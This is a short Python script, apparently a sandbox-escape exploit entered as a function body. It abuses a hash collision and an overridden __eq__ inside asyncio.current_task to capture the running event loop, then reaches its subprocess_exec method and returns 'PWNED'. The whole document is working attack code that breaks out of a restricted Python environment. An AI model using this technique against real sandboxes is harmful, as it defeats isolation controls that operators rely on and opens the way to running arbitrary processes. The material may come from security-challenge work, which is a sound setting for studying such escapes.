import asyncio


class Loop:
    """Looked for among the loops that run, with the hash that a loop at some address has."""

    def __hash__(self):
        return Loop.hash

    def __eq__(self, other):
        Loop.found = other
        return False


Loop.found = None


async def main():
    loop = Loop()
    known = [id(loop), id([1]), id({}), id(main), id(asyncio.current_task()), id(ctx), id(object())]
    arenas = sorted({one >> 20 for one in known})
    for near in sorted(range(-5, 6), key=abs):
        for arena in arenas:
            first = (arena + near) << 16
            for Loop.hash in range(first, first + 65536):
                try:
                    asyncio.current_task(loop)
                except RuntimeError:
                    pass
                if Loop.found is not None:
                    return Loop.found


found = asyncio.run(main())
return "PWNED " + repr(found.subprocess_exec) if found is not None else "no"
